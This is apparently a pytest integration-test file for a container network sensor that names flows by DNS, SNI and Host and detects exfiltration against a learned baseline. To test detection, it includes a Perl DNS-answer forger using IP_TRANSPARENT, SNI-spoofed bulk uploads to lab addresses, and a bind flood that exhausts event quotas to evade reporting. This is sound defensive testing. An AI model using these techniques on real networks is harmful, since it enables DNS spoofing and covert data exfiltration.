"""Destinations are names, on a real kernel with real containers: DNS
answers the sink's DNS server gave, TLS SNI and HTTP Host name the flows;
ingress bytes match what the sink sent back; a baseline learned by name
stays silent when the service moves to another address block, and flags a
new name on a known address."""

from __future__ import annotations

import json
import signal
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from emulation.lab import SECOND_IP, VAULT_IP, wait_until
from emulation.scenarios import S_CLIENT, put

from .harness import (
    SINK_IP,
    SLUICE,
    Docker,
    SensorProc,
    SinkNet,
    action,
    cid_of,
    forgers_at_start,
    run_container,
    window_closed_after,
)

SVC = "api.svc-names.test"
NEW = "upload.share-files.test"


def resolve(name: str, server: str = SINK_IP) -> str:
    """busybox sh: the last address nslookup prints for `name`, asked of
    the sink's DNS server (a real DNS response into the container)."""
    return f"ip=$(nslookup {name} {server} | tail -n +3 | grep -o '198[.]18[.][0-9.]*' | tail -1); echo ip=$ip; "


# A container answering its own query: a socket bound to port 53 on the
# address of the resolver the workload learned (IP_TRANSPARENT: Docker
# grants CAP_NET_RAW) sends a DNS response that gives the learned name the
# attacker's address, to a socket of the same container over loopback.
FORGE_PL = r"""
use Socket;
my ($name, $addr, $from) = @ARGV;
socket(my $r, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
bind($r, pack_sockaddr_in(5300, inet_aton("127.0.0.1"))) or die "bind 5300: $!";
socket(my $s, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
setsockopt($s, 0, 19, 1) or die "IP_TRANSPARENT: $!";
bind($s, pack_sockaddr_in(53, inet_aton($from))) or die "bind $from:53: $!";
my $q = join("", map { chr(length $_) . $_ } split /\./, $name) . chr(0);
my $m = pack("nnnnnn", 0x1234, 0x8180, 1, 1, 0, 0) . $q . pack("nn", 1, 1)
  . pack("nnnNn", 0xc00c, 1, 1, 300, 4) . inet_aton($addr);
send($s, $m, 0, pack_sockaddr_in(5300, inet_aton("127.0.0.1"))) or die "send: $!";
recv($r, my $got, 2048, 0);
print "forged answer received: ", length($got), " bytes\n";
"""


def tls_send(name: str, path: str, server: str = SINK_IP) -> str:
    """busybox sh: the file at path, over TLS to name (resolved by server)."""
    return (
        resolve(name, server)
        # stdin held open a moment: s_client stops at EOF, unsent data with it
        + f"(cat {path}; sleep 2) | {S_CLIENT} -connect $ip:443 -servername {name} "
        + ">/dev/null 2>&1; "
    )


def tls_upload(name: str, nbytes: int, server: str = SINK_IP) -> str:
    return f"head -c {nbytes} /dev/urandom > /tmp/up; " + tls_send(name, "/tmp/up", server)


def claimed_upload(name: str, ip: str, nbytes: int = 1_500_000) -> str:
    """busybox sh: random bytes over TLS to ip, `name` in the SNI."""
    return (
        f"head -c {nbytes} /dev/urandom > /tmp/up; (cat /tmp/up; sleep 2) | "
        f"{S_CLIENT} -connect {ip}:443 -servername {name} >/dev/null 2>&1; "
    )


def _exf004(s: SensorProc, cid: str, what: str) -> dict[str, Any]:
    return s.wait_for(
        lambda x: x["event"]["kind"] == "alert" and cid_of(x) == cid and x["rule"]["id"] == "SL-EXF-004",
        timeout=20,
        what=f"SL-EXF-004 for {what}",
    )


def named_flow(cid: str, ip: str = SECOND_IP, name: str = SVC) -> Callable[[dict[str, Any]], bool]:
    """A flow summary of the container to ip, named `name`."""
    return lambda x: (
        action(x) == "flow_summary"
        and cid_of(x) == cid
        and x["destination"]["ip"] == ip
        and x["destination"].get("domain") == name
    )


def _names_count(s: SensorProc, name: str) -> int:
    st = json.loads(s.status("--json").stdout)
    return int(st["counters"][f"names_{name}"])


def _flows(sensor: SensorProc, cid: str) -> list[dict[str, Any]]:
    return [d for d in sensor.docs() if action(d) == "flow_summary" and cid_of(d) == cid]


def test_flows_named_and_ingress_bytes_match(base: Path, docker: Docker, net: SinkNet, sensor: SensorProc) -> None:
    net.set_names({SVC: [SINK_IP], NEW: [SECOND_IP]})
    n = 300_000
    script = (
        resolve(SVC)
        + f"printf 'GET /bytes/{n} HTTP/1.0\\r\\n\\r\\n' | nc $ip 80 > /tmp/got; wc -c < /tmp/got; "
        + tls_upload(NEW, 20_000)
    )
    before = len(net.received())
    cid = run_container(docker, net, script)
    sensor.wait_for(
        lambda d: action(d) == "flow_summary" and cid_of(d) == cid and d["destination"]["port"] == 443,
        what="TLS flow summary",
    )
    sensor.settle()
    flows = _flows(sensor, cid)
    http = [d for d in flows if d["destination"]["ip"] == SINK_IP and d["destination"]["port"] == 80]
    tls = [d for d in flows if d["destination"]["ip"] == SECOND_IP and d["destination"]["port"] == 443]
    dns = [d for d in flows if d["destination"]["port"] == 53]
    assert http and tls and dns, flows
    # the HTTP/1.0 request has no Host: its name is the DNS answer the container got
    assert {d["destination"].get("domain") for d in http} == {SVC}
    assert all(d["sluice"]["flow"]["name_source"] == "dns" for d in http)
    assert http[0]["destination"]["registered_domain"] == "svc-names.test"
    # ingress: what the sink sent back, byte for byte (TCP payload)
    sent = [r["bytes"] for r in net.received()[before:] if r.get("proto") == "http-reply"]
    assert len(sent) == 1 and sent[0] > n
    assert sum(d["sluice"]["payload"]["received_bytes"] for d in http) == sent[0]
    assert sum(d["destination"]["bytes"] for d in http) > sent[0]  # with IP and TCP headers
    assert sum(d["destination"]["packets"] for d in http) >= sent[0] // 65536
    # upload vs download: the request is tiny, the answer large
    assert all(d["sluice"]["flow"].get("upload_download_ratio", 0) < 0.01 for d in http if d["source"]["bytes"])
    # TLS: named by the ClientHello's SNI
    assert {d["tls"]["client"]["server_name"] for d in tls if "tls" in d} == {NEW}
    assert {d["destination"]["domain"] for d in tls} == {NEW}
    # DNS answers counted as ingress on the resolver flow
    assert sum(d["sluice"]["payload"]["received_bytes"] for d in dns) > 0
    # the connect event is named too (the DNS answer came first)
    conns = [d for d in sensor.docs() if action(d) == "connection_attempted" and cid_of(d) == cid]
    assert any(d["destination"].get("domain") == SVC for d in conns), conns
    st = sensor.status("--json").stdout
    assert '"ingress": "attached"' in st or '"ingress":"attached"' in st.replace(" ", ""), st


def _learn(base: Path, docker: Docker, net: SinkNet, bl: Path, cfg: Path, script: str) -> None:
    """Learn while the script runs twice, then stop the learner (SIGINT saves
    the baseline) once a window has closed after the second run: a fixed
    --duration made what was learned depend on how fast the containers ran."""
    p = subprocess.Popen(
        [SLUICE, "baseline", "learn", "--duration", "600", "-c", str(cfg), "--baseline", str(bl)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 30
    while subprocess.run([SLUICE, "status", "-c", str(cfg)], capture_output=True).returncode != 0:
        assert p.poll() is None, p.communicate()
        assert time.monotonic() < deadline, "learning sensor never ready"
        time.sleep(0.2)
    for _ in range(2):
        run_container(docker, net, script, timeout=90)
    done = time.time()

    def closed() -> bool:
        assert p.poll() is None, p.communicate()
        return window_closed_after(cfg, done)

    assert wait_until(closed, 30), "the learner closed no window after the uploads"
    p.send_signal(signal.SIGINT)
    _out, err = p.communicate(timeout=120)
    assert p.returncode == 0, err


def test_lab_tls_upload_sends_every_byte(docker: Docker, net: SinkNet) -> None:
    """The lab's TLS upload must deliver what it was given, or a learned
    baseline says less than the workload does. Each stdin chunk s_client
    reads here starts with Q, its "quit" command unless -nocommands."""
    net.set_names({SVC: [SINK_IP]})
    chunk = 16384  # s_client's stdin read size
    script = f"for i in $(seq 16); do printf Q; head -c {chunk - 1} /dev/urandom; done > /tmp/q; " + tls_send(
        SVC, "/tmp/q"
    )
    before = len(net.received())
    run_container(docker, net, script, timeout=90)
    tls = [r for r in net.received()[before:] if r.get("proto") == "tls"]
    assert [r["bytes"] for r in tls] == [16 * chunk], tls


def test_baseline_by_name_moves_silently_and_flags_new_name(base: Path, docker: Docker, net: SinkNet) -> None:
    """Learned: the workload uploads 1.5 MiB over TLS to api.svc-names.test
    at 198.18.0.1. Detecting: the name now resolves to 198.18.64.1 (another
    /24): silent. A new name that resolves to the known 198.18.0.1: flagged,
    with destination.domain."""
    net.set_names({SVC: [SINK_IP]})
    d = base / "names-bl"
    d.mkdir(exist_ok=True)
    cfg = d / "sluice.toml"
    cfg.write_text(
        f'[sensor]\nwindow_seconds = 1.0\ncontrol_socket = "{d}/ctl.sock"\n'
        f'[runtime]\ndocker_socket = "{docker.sock}"\n[detection]\nmin_baseline_windows = 1\n'
    )
    bl = d / "baseline.msgpack"
    upload = tls_upload(SVC, 1_500_000)
    _learn(base, docker, net, bl, cfg, upload)
    exp = subprocess.run(
        [SLUICE, "baseline", "export", "--baseline", str(bl)], capture_output=True, text=True, check=True
    ).stdout
    assert "svc-names.test|443|tcp" in exp, exp

    # SL-EXF-004's threshold low: what matters here is new vs known, not size
    s = SensorProc(
        d,
        docker.sock,
        name="names-detect",
        # each phase's container alerts for itself: no suppression across
        # phases that send to the same address
        extra_config="[detection]\nmin_baseline_windows = 1\nsuppress_seconds = 0\n"
        "[rules.SL-EXF-004]\nmin_bytes = 65536\n",
    )
    s.start(args=("--baseline", str(bl)))
    try:
        # the service moved to another address block
        net.set_names({SVC: [SECOND_IP]})
        moved = run_container(docker, net, upload, timeout=90)
        s.wait_for(named_flow(moved), what="named flow to the moved service")
        s.settle(3)
        alerts = [x for x in s.docs() if x["event"]["kind"] == "alert" and cid_of(x) == moved]
        assert alerts == [], [a["message"] for a in alerts]
        # the container's own DNS answer vouched for the name on the new address
        named = [x for x in _flows(s, moved) if x["destination"].get("domain") == SVC]
        assert named and all(x["sluice"]["flow"]["name_vouched"] is True for x in named), named

        # the learned name claimed in the SNI of an upload to an address it
        # never resolved to: the claim does not make the address known
        claimed = run_container(docker, net, claimed_upload(SVC, VAULT_IP), timeout=90)
        c = _exf004(s, claimed, "a learned name claimed in the SNI of a new address")
        assert c["destination"]["ip"] == VAULT_IP and c["destination"]["domain"] == SVC
        assert c["tls"]["client"]["server_name"] == SVC and c["sluice"]["name_vouched"] is False
        claimed_flows = [x for x in _flows(s, claimed) if x["destination"].get("domain")]
        assert claimed_flows and all(x["sluice"]["flow"]["name_vouched"] is False for x in claimed_flows)

        # the learned name asked of a resolver the workload never used (the
        # sink's DNS server on another address): a real answer, not the
        # workload's; the name is judged as a claim
        net.set_names({SVC: [VAULT_IP]})
        rogue = run_container(docker, net, tls_upload(SVC, 1_500_000, server=VAULT_IP), timeout=90)
        r = _exf004(s, rogue, "a learned name resolved by a resolver the workload never asked")
        assert r["destination"]["ip"] == VAULT_IP and r["destination"]["domain"] == SVC
        assert r["sluice"]["name_vouched"] is False and r["sluice"]["name_resolver"] == VAULT_IP
        rogue_flows = [x for x in _flows(s, rogue) if x["destination"]["port"] == 443]
        assert rogue_flows and all(x["sluice"]["flow"]["name_resolver"] == VAULT_IP for x in rogue_flows)

        # the container answers its own query, from the learned resolver's
        # address, port 53: its answers vouch for nothing from the bind on
        before = _names_count(s, "dns_answers_unvouched")
        forge = put("/tmp/f.pl", FORGE_PL) + f"; perl /tmp/f.pl {SVC} {VAULT_IP} {SINK_IP}; "
        forged = run_container(docker, net, forge + claimed_upload(SVC, VAULT_IP), timeout=90)
        f = _exf004(s, forged, "a learned name in a DNS answer the container forged")
        assert f["destination"]["ip"] == VAULT_IP and f["sluice"]["name_vouched"] is False
        assert "name_resolver" not in f["sluice"]
        assert _names_count(s, "dns_answers_unvouched") > before  # the forged answer arrived, unvouched

        # a new name on the known address
        net.set_names({NEW: [SINK_IP]})
        evil = run_container(docker, net, tls_upload(NEW, 1_500_000), timeout=90)
        try:
            a = s.wait_for(
                lambda x: x["event"]["kind"] == "alert" and cid_of(x) == evil and x["rule"]["id"] == "SL-EXF-004",
                timeout=20,
                what="SL-EXF-004 for a new name on a known address",
            )
        except AssertionError as e:
            seen = [
                (action(x), x.get("message"), x.get("destination"), x.get("sluice", {}).get("payload"))
                for x in s.docs()
                if cid_of(x) == evil and action(x) != "exec"
            ]
            raise AssertionError(f"{e}; the container's documents: {seen}") from None
        assert a["destination"]["domain"] == NEW and a["destination"]["ip"] == SINK_IP
        assert a["destination"]["registered_domain"] == "share-files.test"
        assert a["message"].index(NEW) < a["message"].index(SINK_IP)
        assert a["tls"]["client"]["server_name"] == NEW
    finally:
        s.stop()


def test_emulate_benign_service_moved_is_silent(base: Path, docker: Docker) -> None:
    """`sluice emulate run benign-service-moved`: the lab learns the API
    client calling its partner service by name at 198.18.0.1, then the name
    resolves to 198.18.64.1: the scorecard must say silent."""
    cfg = base / "emu-moved.toml"
    cfg.write_text(
        f'[sensor]\ncontrol_socket = "{base}/emu-moved-ctl.sock"\n[runtime]\ndocker_socket = "{docker.sock}"\n'
    )
    r = subprocess.run(
        [SLUICE, "emulate", "run", "benign-service-moved", "--json", "--learn-seconds", "12", "-c", str(cfg)],
        capture_output=True,
        text=True,
        timeout=600,
    )
    scores = [json.loads(line) for line in r.stdout.splitlines() if line.startswith("{")]
    assert r.returncode == 0, f"{r.stdout}\n{r.stderr[-3000:]}"
    (s,) = scores
    assert s["scenario"] == "benign-service-moved" and s["attack"] == "benign"
    assert s["result"] == "silent" and not s["rules_fired"], s


# Binds 200 UDP ports (each a reported bind event), then port 53: with the
# container's event share at 64 per window, the kernel refuses that report.
BIND_FLOOD_PL = r"""
use Socket;
my @s;
for my $p (20000 .. 20199) {
  socket(my $u, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
  bind($u, pack_sockaddr_in($p, INADDR_ANY)) or die "bind $p: $!";
  push @s, $u;
}
socket(my $d, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
bind($d, pack_sockaddr_in(53, INADDR_ANY)) or die "bind 53: $!";
print "bound 201\n";
sleep 3;
"""


def test_a_port_53_bind_the_kernel_could_not_report_still_distrusts(base: Path, docker: Docker, net: SinkNet) -> None:
    """The bind to port 53 refused by the container's event quota (or a
    full ring buffer) is recorded in a kernel map instead, drained at the
    window's close: the container's DNS answers vouch for nothing."""
    s = SensorProc(base, docker.sock, name="names-unreported", extra_config="[kernel]\nevent_quota_per_cgroup = 64\n")
    s.start()
    try:
        cid = run_container(docker, net, put("/tmp/b.pl", BIND_FLOOD_PL) + "; perl /tmp/b.pl", timeout=60)
        done = time.time()
        assert wait_until(lambda: window_closed_after(s.config, done), 30), "no window closed after the binds"
        counters = json.loads(s.status("--json").stdout)["counters"]
        assert counters["forgers_unreported"] >= 1, counters
        assert counters["names_dns_distrusted_cgroups"] >= 1, counters
        # the bind itself never reached user space as an event, the first binds did
        bound = [d["destination"]["port"] for d in s.docs() if cid_of(d) == cid and action(d) == "socket_bound"]
        assert bound and 53 not in bound, bound
    finally:
        s.stop()


HOLD_53_PL = r"""
use Socket;
socket(my $d, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
bind($d, pack_sockaddr_in(53, inet_aton("127.0.0.1"))) or die "bind 53: $!";
open(my $f, ">", "/tmp/bound") or die; close($f);
sleep 120;
"""


def test_a_port_53_socket_held_from_before_the_sensor_started_distrusts(
    base: Path, docker: Docker, net: SinkNet
) -> None:
    """A restart must not forget: a container already holding a socket on
    port 53 when the sensor starts (its bind was never seen) is distrusted
    from its network namespace's socket tables."""

    before = forgers_at_start(base, docker.sock, "names-start-before")
    cid = run_container(docker, net, put("/tmp/h.pl", HOLD_53_PL) + "; perl /tmp/h.pl", wait=False)
    try:
        assert wait_until(lambda: docker.docker("exec", cid, "ls", "/tmp", check=False).count("bound") == 1, 30)
        assert forgers_at_start(base, docker.sock, "names-start-after") == before + 1
    finally:
        docker.docker("rm", "-f", cid, check=False)


# A raw ICMP socket (what `ping` opens as root): it could forge a DNS answer
# over loopback, so the container is distrusted from its creation on.
RAW_PL = r"""
use Socket;
socket(my $s, PF_INET, SOCK_RAW, 1) or die "raw socket: $!";
open(my $f, ">", "/tmp/raw-open") or die; close($f);
sleep($ARGV[0]);
"""


def test_a_distrust_ends_when_the_raw_socket_is_gone_and_not_before(
    base: Path, docker: Docker, net: SinkNet, sensor: SensorProc
) -> None:
    """Two containers open a raw socket, then resolve the service (the
    sink's DNS server) and upload to it. One closed its socket seconds
    before: the window's rescan found its namespace clean, so the answer
    it received afterwards vouches for the name. The other still holds
    its socket: its answer vouches for nothing."""
    net.set_names({SVC: [SECOND_IP]})
    before = _names_count(sensor, "dns_distrust_cleared")
    raw = put("/tmp/r.pl", RAW_PL)
    closed = run_container(docker, net, raw + "; perl /tmp/r.pl 1; sleep 5; " + tls_upload(SVC, 100_000), wait=False)
    held = run_container(
        docker, net, raw + "; (perl /tmp/r.pl 60 &) ; sleep 6; " + tls_upload(SVC, 100_000), wait=False
    )
    try:
        for cid in (closed, held):
            sensor.wait_for(named_flow(cid), timeout=60, what="the named upload")
        named = {
            cid: [x["sluice"]["flow"]["name_vouched"] for x in _flows(sensor, cid) if x["destination"].get("domain")]
            for cid in (closed, held)
        }
        assert named[closed] and all(named[closed]), named
        assert named[held] and not any(named[held]), named
        assert _names_count(sensor, "dns_distrust_cleared") > before
    finally:
        docker.docker("rm", "-f", closed, held, check=False)
